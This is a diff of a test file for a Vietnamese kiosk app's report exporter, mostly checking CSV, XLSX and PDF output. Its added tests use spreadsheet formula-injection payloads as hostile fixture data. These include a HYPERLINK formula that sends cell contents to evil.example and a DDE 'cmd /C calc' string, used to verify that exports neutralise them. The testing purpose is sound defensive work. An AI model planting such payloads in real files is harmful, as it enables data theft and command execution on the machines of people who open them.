@@ -42,7 +42,7 @@ def test_csv_has_one_row_per_session_in_vietnamese(dataset, tmp_path):
     assert by_id["s5"]["Kết quả"] == "Chỉ luyện tập"
     assert by_id["s6"]["Kết quả"] == "Không rõ" and by_id["s6"]["Cách kết thúc"] == "Hết thời gian chờ"
     side = read_csv(written[1])
-    assert side[0] == T.EXPORT_PROCEDURE_COLUMNS
+    assert side[0] == E.PROCEDURE_HEAD
     per = {r[0]: r for r in side[1:]}
     # total (not practice), online, self-filed, helped, not filed, no outcome, self %, completion %
     assert per["A"][1:] == ["Đăng ký khai sinh", "2", "2", "1", "1", "0", "0", "50.0", "100.0"]
@@ -58,7 +58,9 @@ def test_xlsx_read_back(dataset, tmp_path):
                              T.SHEET_OFFICERS, T.SHEET_REASONS, T.SHEET_SESSIONS]
     summary = {r[0]: r[1] for r in wb[T.SHEET_SUMMARY].iter_rows(values_only=True)}
     assert summary["Số phiên"] == 7 and summary["Người dân tự nộp"] == 2
-    assert summary["Tỷ lệ tự nộp"] == "66.7 %" and summary["Tỷ lệ hoàn thành"] == "50.0 %"
+    assert summary["Tỷ lệ tự nộp (%)"] == 66.7 and summary["Tỷ lệ hoàn thành (%)"] == 50.0
+    assert summary["Người dân hài lòng"] == "66,7 % (2 trên 3 lượt)"
+    assert summary["Cổng xác nhận đã nộp"] == 1
     months = list(wb[T.SHEET_MONTHS].iter_rows(values_only=True))
     assert months[1][:7] == ("2026-11", 7, 1, 3, 2, 1, 2)
     officers = {r[0]: r[1] for r in wb[T.SHEET_OFFICERS].iter_rows(values_only=True)}
@@ -90,7 +92,7 @@ def test_pdf_report_is_one_page_with_the_main_figures(dataset, tmp_path, qapp):
     assert re.search(r"^Pages:\s+1$", info, re.M)
     text = pdf_text(out)
     assert T.REPORT_TITLE in text and "UBND xã Bình Phú" in text and "01/11/2026" in text
-    assert "66.7 %" in text and "50.0 %" in text and "Đăng ký kết hôn" in text
+    assert "66,7 %" in text and "50,0 %" in text and "Đăng ký kết hôn" in text
 
 
 def test_an_empty_range_still_exports(store, tmp_path, qapp):
@@ -203,7 +205,126 @@ def test_a_read_only_usb_stick_is_named_as_such(dataset, tmp_path, monkeypatch):
     def refuse(*_a, **_k):
         raise OSError(errno.EROFS, "Read-only file system")
 
-    monkeypatch.setattr(E.tempfile, "mkstemp", refuse)
+    monkeypatch.setattr(E.os, "open", refuse)
     with pytest.raises(ExportError) as err:
         export_to("pdf", dataset.database.conn, NOV, LABELS, tmp_path / "r.pdf", 7)
     assert err.value.code == "read_only" and not (tmp_path / "r.pdf").exists()
+
+
+# ---------------------------------------------------------------- hostile names and targets
+
+HOSTILE = {"officer": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "code": "=1+1",
+           "procedure": "=cmd|' /C calc'!A0", "commune": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+@pytest.fixture
+def hostile(store):
+    from tests.staff.conftest import add_session
+
+    add_session(store.database, "x1", "2026-11-02T03:00:00.000+00:00", procedure_code=HOSTILE["code"],
+                officer_id=1, outcome="filed_alone")
+    add_session(store.database, "x2", "2026-11-02T04:00:00.000+00:00", procedure_code="-2+3", officer_id=2,
+                outcome="not_filed", not_filed_reason="+cmd")
+    return store, Labels({HOSTILE["code"]: HOSTILE["procedure"], "-2+3": "+SUM(A1)"},
+                         {1: HOSTILE["officer"], 2: "\tTab\x07"}, HOSTILE["commune"], "k1")
+
+
+def test_csv_text_cells_cannot_start_a_formula(hostile, tmp_path):
+    store, labels = hostile
+    written = export_to("csv", store.database.conn, NOV, labels, tmp_path / "x.csv", 7)
+    for path in written:
+        for row in read_csv(path)[1:]:
+            for value in row:
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
+    rows = {r[0]: r for r in read_csv(written[0])[1:]}
+    assert rows["x1"][6] == "'=1+1" and rows["x1"][7] == "'" + HOSTILE["procedure"]
+    assert rows["x1"][8] == "'" + HOSTILE["officer"]
+    assert E.csv_row([-3, 2.5, "-3", "An"]) == [-3, 2.5, "'-3", "An"]  # numbers stay numbers
+
+
+def test_an_xlsx_with_hostile_names_opens_as_plain_text(hostile, tmp_path):
+    store, labels = hostile
+    out = tmp_path / "x.xlsx"
+    export_to("xlsx", store.database.conn, NOV, labels, out, 7)
+    wb = openpyxl.load_workbook(out)  # not read-only: cells keep their data type
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    texts.append(cell.value)
+    for value in HOSTILE.values():
+        assert any(value in t for t in texts), value
+    sessions = {r[0].value: r for r in wb[T.SHEET_SESSIONS].iter_rows(min_row=2)}
+    assert sessions["x1"][6].value == "=1+1" and sessions["x1"][6].data_type == "s"
+    assert sessions["x1"][8].value == HOSTILE["officer"] and sessions["x2"][8].value == "\tTab"
+
+
+def test_o_refuses_a_symlink_a_fifo_and_a_device(dataset, tmp_path, capsys):
+    import os
+    import stat
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    link = tmp_path / "link.csv"
+    link.symlink_to(victim)
+    fifo = tmp_path / "pipe.csv"
+    os.mkfifo(fifo)
+    targets = [link, fifo]
+    if os.geteuid() == 0:  # a device node like /dev/full (made here, never a real one)
+        device = tmp_path / "full.csv"
+        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))
+        targets.append(device)
+    for target in targets:
+        for fmt in ("csv", "xlsx", "pdf"):
+            with pytest.raises(ExportError) as err:
+                export_to(fmt, dataset.database.conn, NOV, LABELS, target, 7)
+            assert err.value.code == "not_a_file", (target, fmt)
+    assert link.is_symlink() and victim.read_text() == "keep me"
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+    if os.geteuid() == 0:
+        assert stat.S_ISCHR(os.lstat(tmp_path / "full.csv").st_mode)
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
+    # the side file of a CSV is checked too, before anything is written
+    (tmp_path / "r-theo-thu-tuc.csv").symlink_to(victim)
+    with pytest.raises(ExportError):
+        export_to("csv", dataset.database.conn, NOV, LABELS, tmp_path / "r.csv", 7)
+    assert not (tmp_path / "r.csv").exists() and victim.read_text() == "keep me"
+
+
+def test_cli_export_to_a_symlink_says_so(data_dir, tmp_path, capsys):
+    (tmp_path / "l.csv").symlink_to(tmp_path / "elsewhere.csv")
+    assert admin_main(["export", "--data-dir", data_dir, "--format", "csv", "--from", "2026-11-01",
+                       "--to", "2026-11-30", "-o", str(tmp_path / "l.csv")]) == 1
+    assert "not a regular file" in capsys.readouterr().err and not (tmp_path / "elsewhere.csv").exists()
+
+
+def test_stale_export_parts_are_recognised_and_removed(tmp_path):
+    import os
+
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
+                          text=True).stdout.strip()
+    stale = tmp_path / f".r.csv.kiosk-export-{dead}.ab12.part"
+    mine = E.part_path(tmp_path / "r.csv")
+    other = tmp_path / ".notes.part"
+    for p in (stale, mine, other):
+        p.write_text("x")
+    assert E.remove_stale_parts(tmp_path) == [stale]
+    assert mine.exists() and other.exists() and os.getpid() and not stale.exists()
+
+
+def test_the_pdf_footer_is_the_communes_local_time(dataset, tmp_path, qapp, monkeypatch):
+    """At 00:30 on 1 December in Vietnam (17:30 UTC on 30 November) the report says 01/12."""
+    from datetime import datetime, timezone
+
+    from kiosk_app.stats import figures
+    from kiosk_app.stats.report_pdf import write_pdf
+
+    assert figures.local_now(7, datetime(2026, 11, 30, 17, 30, tzinfo=timezone.utc)) == datetime(2026, 12, 1, 0, 30)
+    real = figures.local_now
+    monkeypatch.setattr("kiosk_app.stats.report_pdf.local_now",
+                        lambda offset: real(offset, datetime(2026, 11, 30, 17, 30, tzinfo=timezone.utc)))
+    write_pdf(figures.summary(dataset.database.conn, NOV), LABELS, tmp_path / "r.pdf")
+    assert T.REPORT_MADE.format(when="00:30 01/12/2026") in pdf_text(tmp_path / "r.pdf")
